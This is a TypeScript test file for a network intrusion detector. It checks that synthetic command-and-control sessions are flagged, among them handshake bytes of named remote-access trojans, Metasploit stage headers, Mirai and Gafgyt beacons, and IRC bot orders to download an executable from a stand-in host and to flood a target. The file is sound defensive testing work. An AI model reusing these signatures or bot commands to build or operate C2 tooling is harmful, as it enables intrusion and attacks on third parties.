import { describe, expect, test } from 'vitest'
import { dnsAddress, dnsMessage } from '../../../../support/messages/dns-messages.ts'
import { RemoteSession } from '../../../../support/hosts/remote-session.ts'
import { WatchedTraffic } from '../../../../support/detection/watched-traffic.ts'

const HOST = '192.168.7.20'
const FAR = '203.0.113.9'
const SECOND = 1_000_000

const bytes = (text: string): Uint8Array => Uint8Array.from(Buffer.from(text, 'latin1'))
const zeros = (count: number): string => '\x41'.repeat(count)

function session(traffic: WatchedTraffic, serverPort: number, client = HOST, server = FAR) {
  return new RemoteSession(traffic, { client, server, clientPort: 50123, serverPort })
}

let nextPort = 30_000

/** A question to a resolver, and its answer. */
function lookUp(traffic: WatchedTraffic, name: string, address: string): void {
  nextPort += 1
  const labels = name.split('.')
  const ports = { sourcePort: nextPort, destinationPort: 53 }
  const back = { sourcePort: 53, destinationPort: nextPort }
  traffic.udp(HOST, '192.168.7.1', { ...ports, payload: dnsMessage({ labels }) })
  traffic.udp('192.168.7.1', HOST, {
    ...back,
    payload: dnsMessage({ flags: 0x8180, labels, answers: [dnsAddress(address)] }),
  })
}

type Talk = (session: RemoteSession) => unknown

/** First words as the programs' analyses describe them. */
const TOOLS: readonly (readonly [name: string, port: number, talk: Talk])[] = [
  ['njRAT', 5552, (it) => it.say("149\0ll|'|'|SGFja2Vk|'|'|PC|'|'|User").hear("0\0").say("5\0act|'|'|")],
  ['XWorm, enciphered', 7000, (it) => it.say(`48\0${zeros(48)}`).hear(`16\0${zeros(16)}`, SECOND).say(`32\0${zeros(32)}`).hear(`16\0${zeros(16)}`)],
  ['Gh0st', 8000, (it) => it.say(bytes(`Gh0st\x2d\0\0\0\xf0\0\0\0\x78\x9c${zeros(30)}`)).hear('ok')],
  ['a Gh0st variant with a token of its own', 8000, (it) => it.say(bytes(`KrisR\x2d\0\0\0\xf0\0\0\0\x78\x9c${zeros(30)}`)).hear('ok')],
  ['DarkComet', 1604, (it) => it.hear('8EA4AB05FA7E').say('B47CB892B702').hear('00798B4A0595')],
  ['Poison Ivy', 3460, (it) => it.say(bytes('\xe1\x90'.repeat(128))).hear(bytes('\x83\x11'.repeat(128)))],
  ['NetWire', 3396, (it) => it.say(bytes(`A\0\0\0\x99${zeros(64)}`)).hear('x')],
  ['NanoCore', 9000, (it) => it.say(bytes('\x08\0\0\0\xc1\xc3\xd0\x32\x43\x59\xa1\x78')).hear('x')],
  ['Remcos', 2404, (it) => it.say(bytes(`\x24\x04\xff\0\x20\0\0\0\x4b\0\0\0${zeros(30)}`)).hear('x')],
  ['Xtreme RAT', 8888, (it) => it.say('myversion|3.6 Public\r\n').hear('x')],
  ['NetBus', 12345, (it) => it.hear('NetBus 1.70 \r').say('Password;0;x\r')],
  ['SubSeven', 27374, (it) => it.hear('connected. time/date: 12:30.15 - January 5, 2026, Monday, version: DEFCON8 2.1').say('PWD')],
  ['Crimson', 6728, (it) => it.hear(bytes('\x0d\0\0\0\0info=command')).say(bytes('\x20\0\0\0\0info=user-PC'))],
  ['a stage of Metasploit for Linux', 4444, (it) => it.hear(bytes(`\x00\xa0\x02\0\x7fELF\x02\x01\x01${zeros(1200)}`)).say('x')],
  ['a stage of Metasploit', 4444, (it) => it.hear(bytes(`\x00\xa0\x02\0MZ\xe8\0\0\0\0${zeros(1200)}`)).say('x')],
  ['a stage of Metasploit, its length in a segment of its own', 4444, (it) => it.hear(bytes('\x00\xa0\x02\0')).hear(bytes(`MZ\xe8\0\0\0\0${zeros(1200)}`)).hear(bytes(zeros(1200))).say('x')],
  ['a command prompt that goes out', 4444, (it) => it.say('Microsoft Windows [Version 6.1.7601]\r\n').hear('whoami\n')],
  ['Gafgyt', 666, (it) => it.say('BUILD MIPS:telnet\n').hear('PING\n', 60 * SECOND).say('PONG!\n').hear('PING\n', 60 * SECOND).say('PONG!\n')],
  ['Mirai', 23, (it) => it.say(bytes('\0\0\0\x01'), 100_000).say(bytes('\0'), 60 * SECOND).say(bytes('\0\0')).hear(bytes('\0\0'), 60 * SECOND).say(bytes('\0\0')).hear(bytes('\0\0'))],
] // prettier-ignore

describe('a remote-control program that is known by its first words', () => {
  test.each(TOOLS)('%s is told with host and far end', (_name, port, talk) => {
    const traffic = new WatchedTraffic()
    talk(session(traffic, port))
    // A shell is an exploit's too, and told as such beside it.
    const stories = traffic.end().filter(({ family }) => family === 'c2')
    expect(stories).toMatchObject([{ family: 'c2', host: HOST, attacker: FAR }])
    expect(stories[0]!.severity).toBeGreaterThanOrEqual(4)
  })

  test('is told over IPv6', () => {
    const traffic = new WatchedTraffic()
    session(traffic, 5552, 'fd00::20', '2001:db8::9').say("149\0ll|'|'|SGFja2Vk|'|'|").hear('0')
    expect(traffic.end()).toMatchObject([
      { kind: 'c2.rat', host: 'fd00::20', attacker: '2001:db8::9', severity: 7 },
    ])
  })

  test('is told where only one way was captured', () => {
    const traffic = new WatchedTraffic()
    const ports = { sourcePort: 50123, destinationPort: 5552 }
    traffic.tcp(HOST, FAR, { ...ports, flags: 'S', sequence: 4999 })
    const payload = "149\0ll|'|'|SGFja2VkXzEyMzQ1Njc4|'|'|PC|'|'|User|'|'|2020|'|'||'|'|Win 7"
    traffic.tcp(HOST, FAR, { ...ports, flags: 'PA', sequence: 5000, payload })
    expect(traffic.end()).toMatchObject([{ kind: 'c2.rat', host: HOST, attacker: FAR }])
  })
})

describe('a remote-control program whose commander alone is captured', () => {
  test('is told by what it is asked', () => {
    const traffic = new WatchedTraffic({ hears: (source) => source === FAR })
    const it = session(traffic, 15963)
    for (let beat = 0; beat < 4; beat += 1) it.hear('BAGLANTI?', 10 * SECOND).say('VAR\n')
    expect(traffic.end()).toMatchObject([{ kind: 'c2.rat', host: HOST, attacker: FAR }])
  })
})

test.each([true, false])('a remote-control program is told where the capture begins in the midst of it (by the far end: %s)', (isFarFirst) => {
  const traffic = new WatchedTraffic()
  const out = { sourcePort: 50123, destinationPort: 5552, flags: 'PA' }
  const back = { sourcePort: 5552, destinationPort: 50123, flags: 'PA' }
  for (let round = 0; round < 4; round += 1) {
    const ask = (): void => traffic.tcp(FAR, HOST, { ...back, sequence: 9000 + round * 9, payload: 'BAGLANTI?' }, SECOND)
    if (isFarFirst) ask()
    traffic.tcp(HOST, FAR, { ...out, sequence: 5000 + round * 4, payload: 'VAR\n' }, SECOND)
    if (!isFarFirst) ask()
  }
  expect(traffic.end()).toMatchObject([{ kind: 'c2.rat', host: HOST, attacker: FAR }])
}) // prettier-ignore

test('a debugger that frames its messages by digits and NUL is no remote-control program', () => {
  const traffic = new WatchedTraffic()
  const it = session(traffic, 9003)
  for (let round = 0; round < 4; round += 1) it.say(`48\0${zeros(48)}\0`).hear('step -i 1\0')
  expect(traffic.end()).toEqual([])
})

describe('records as in TLS on a connection that shook no hands', () => {
  const record = (size: number): Uint8Array =>
    bytes(`\x17\x03\x01\0${String.fromCharCode(size)}${zeros(size)}`)

  function calls(serverPort: number): WatchedTraffic {
    const traffic = new WatchedTraffic()
    for (let round = 0; round < 10; round += 1) {
      session(traffic, serverPort).say(record(120)).hear(record(200)).close()
      traffic.silence(20 * SECOND)
    }
    return traffic
  }

  test('each twenty seconds are told', () => {
    expect(calls(443).end()).toMatchObject([{ family: 'c2', host: HOST, attacker: FAR }])
  })

  test('are not told of who is unknown elsewhere', () => {
    expect(calls(9001).end()).toEqual([])
  })
})

describe('a session in no known protocol', () => {
  test('that calls home in plain text on an odd port, and obeys who speaks first, is told', () => {
    const traffic = new WatchedTraffic()
    const it = session(traffic, 4433)
      .hear('HELLO|17\r\n')
      .say('INFO|PC|User|Win7', 5 * SECOND)
    for (let beat = 0; beat < 14; beat += 1) it.say('STILL?\n', 10 * SECOND)
    expect(traffic.end()).toMatchObject([{ kind: 'c2.odd-session', host: HOST, attacker: FAR }])
  })

  test("that calls home in plain text at the web's port is told, and in cipher it is a messenger's", () => {
    const kept = (ping: string): unknown[] => {
      const traffic = new WatchedTraffic()
      const it = session(traffic, 80).say(bytes(`${ping}HELLO${ping}PC${ping}User\n`))
      for (let beat = 0; beat < 20; beat += 1) it.hear(bytes(`${ping}?\n`), 15 * SECOND).say(bytes(`${ping}!\n`)) // prettier-ignore
      return traffic.end()
    }
    expect(kept('PING')).toMatchObject([{ kind: 'c2.odd-session', host: HOST, attacker: FAR }])
    expect(kept('\x99\xf1\x83\xea')).toEqual([])
  })

  test('that a game, a messenger or a home device keeps, framed and regular, is not told', () => {
    const traffic = new WatchedTraffic()
    const framed = (length: number): Uint8Array =>
      bytes(`\0${String.fromCharCode(length)}${'\x99'.repeat(length)}`)
    const it = session(traffic, 11095).say(framed(120)).hear(framed(80))
    for (let beat = 0; beat < 20; beat += 1) it.say(framed(30)).hear(framed(30), 30 * SECOND)
    expect(traffic.end()).toEqual([])
  })

  test('that is kept for a beat alone, with a far end that was looked up nowhere, is told', () => {
    const kept = (address: string): unknown[] => {
      const traffic = new WatchedTraffic()
      for (let asked = 0; asked < 6; asked += 1) lookUp(traffic, `www${asked}.example.org`, address)
      const it = session(traffic, 4782).say(bytes(`\xb0\0\0\0${zeros(176)}`))
      for (let beat = 0; beat < 24; beat += 1) it.hear(bytes('\x04\0\0\0\x2a\0\0\0'), 1000).say(bytes(`\x08\0\0\0\x2b\0\0\0\0\0\0\0`), 15 * SECOND) // prettier-ignore
      return traffic.end()
    }
    expect(kept('198.51.100.7')).toMatchObject([{ kind: 'c2.odd-session', host: HOST, attacker: FAR }]) // prettier-ignore
    expect(kept(FAR)).toEqual([])
  })

  test('with many far ends is a peer among peers', () => {
    const traffic = new WatchedTraffic()
    for (let peer = 1; peer < 40; peer += 1) {
      const it = session(traffic, 20_000 + peer * 7, HOST, `198.51.100.${peer}`)
      for (let round = 0; round < 12; round += 1) it.say('PING?\n', 3 * SECOND)
    }
    expect(traffic.end().filter(({ severity }) => severity >= 4).length).toBeLessThanOrEqual(3)
  })
})

describe('a bot in an IRC channel', () => {
  test('at a port of its own, by its name and its orders, is told', () => {
    const traffic = new WatchedTraffic()
    session(traffic, 4042)
      .say('NICK [XP|USA|00|P|12345]\r\nUSER x x x :x\r\n')
      .hear(':irc.example 001 x :welcome\r\n')
      .say('JOIN #run key\r\n')
      .hear(':op!op@x PRIVMSG #run :.download http://203.0.113.1/a.exe\r\n')
    expect(traffic.end()).toMatchObject([{ kind: 'c2.irc', host: HOST, attacker: FAR }])
  })

  test('where others chat, named by what it runs on and in the channel before it is welcome, is told', () => {
    const traffic = new WatchedTraffic()
    session(traffic, 6667)
      .say('NICK x86-8fk2la\r\nUSER x86 0 0 :x86\r\nJOIN #bots\r\n')
      .hear(':irc.example 001 x :welcome\r\n')
    expect(traffic.end()).toMatchObject([{ kind: 'c2.irc', host: HOST, attacker: FAR }])
  })

  test('that is told to flood as Kaiten is, is told', () => {
    const traffic = new WatchedTraffic()
    session(traffic, 6697)
      .say('NICK AXKQZ\nUSER YZWPQ localhost localhost :ABCDE\n')
      .hear(':irc 376 AXKQZ :End of /MOTD\r\n')
      .say('MODE AXKQZ -xi\nJOIN #k :lol\nWHO AXKQZ\n')
      .hear(':b!b@x PRIVMSG #k :!* PAN 198.51.100.5 80 60\r\n')
    expect(traffic.end()).toMatchObject([{ kind: 'c2.irc', host: HOST, attacker: FAR }])
  })

  test('is not seen where a person shouts', () => {
    const traffic = new WatchedTraffic()
    session(traffic, 6667)
      .say('NICK alice\r\nUSER alice 0 * :Alice\r\n')
      .hear(':irc.example 001 alice :welcome\r\n')
      .hear(':bob!b@x PRIVMSG #linux :!GET me a coffee! UDP is no TCP\r\n')
    expect(traffic.end()).toEqual([])
  })

  test('is not seen in a program of somebody who cannot wait', () => {
    const traffic = new WatchedTraffic()
    session(traffic, 6667)
      .say('NICK deploys\r\nUSER d 0 * :d\r\nJOIN #ops\r\n')
      .hear(':irc.example 001 deploys :welcome\r\n')
    expect(traffic.end()).toEqual([])
  })

  test('is not seen in people who chat', () => {
    const traffic = new WatchedTraffic()
    session(traffic, 6667)
      .say('NICK alice\r\nUSER alice 0 * :Alice\r\n')
      .hear(':irc.example 001 alice :welcome\r\n')
      .say('JOIN #linux\r\n')
      .hear(':bob!b@x PRIVMSG #linux :hello alice\r\n')
    expect(traffic.end()).toEqual([])
  })
})
